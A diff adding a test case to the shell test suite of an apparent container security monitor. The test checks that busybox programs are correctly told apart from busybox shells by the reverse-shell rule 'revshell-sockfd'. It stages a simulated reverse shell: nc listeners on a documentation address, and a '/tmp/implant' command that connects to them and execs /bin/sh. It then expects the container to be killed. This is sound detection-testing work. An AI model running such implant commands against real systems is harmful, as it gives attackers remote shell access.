@@ -46,6 +46,25 @@ for case in "${cases[@]}"; do
     t_diag "$what: frozen $(printf '%s' "$line" | jq -r '"\(.contained_ms) ms, gone \(.response_ms) ms: \(.description)"')"
 done
 
+# busybox is the tiny image's shell and also its nc, sleep and wget: one file under many names.
+# A busybox program that starts holding a connection is no shell; a busybox shell that does is
+# one. The monitor once learned busybox as /bin/ash (a squashfs lists it before /bin/busybox), so
+# every busybox program was a shell, and a busybox nc read after it connected killed its
+# container (revshell-sockfd). The sleep comes first: events are judged in order, so the shell's
+# finding, which ends the container, comes after the sleep was judged.
+c=$(t_name monitor)
+t_defer "incus delete -f $c"
+m_launch "$c" || t_bail "cannot launch $c"
+m_client "$c" || t_bail "cannot put the test client into $c"
+t_ok "busybox: monitor starts" m_monitor "$c"
+m_run "$c" "ip addr add 198.51.100.9/32 dev lo; for p in 8080 8081; do (sleep 6 | nc -l -p \$p >/dev/null &); done; usleep 300000
+    /tmp/implant 8080 198.51.100.9 exec /bin/sleep 1; /tmp/implant 8081 198.51.100.9 exec /bin/sh -c 'sleep 1; true'"
+line=$(m_wait_rule "$c" revshell-sockfd 300)
+t_like "busybox: its shell holding a connection is revshell-sockfd, killed" "$line" '"level":"critical".*"action":"killed"'
+t_is "busybox: ... and its sleep holding one is not" "$(printf '%s' "$line" | jq -r .evidence.process.command)" "/bin/sh -c sleep 1; true"
+[ -n "$line" ] || t_diag "busybox: audit log:" "$(m_audit "$c" | jq -c '[.rule, .level, .action, .description]')"
+incus delete -f "$c" >/dev/null 2>&1
+
 # Processes: a fork bomb is HIGH (frozen: it stops multiplying at once, and is there to be
 # looked at); too many processes alone, a runaway build, only a WARNING.
 c=$(t_name monitor)
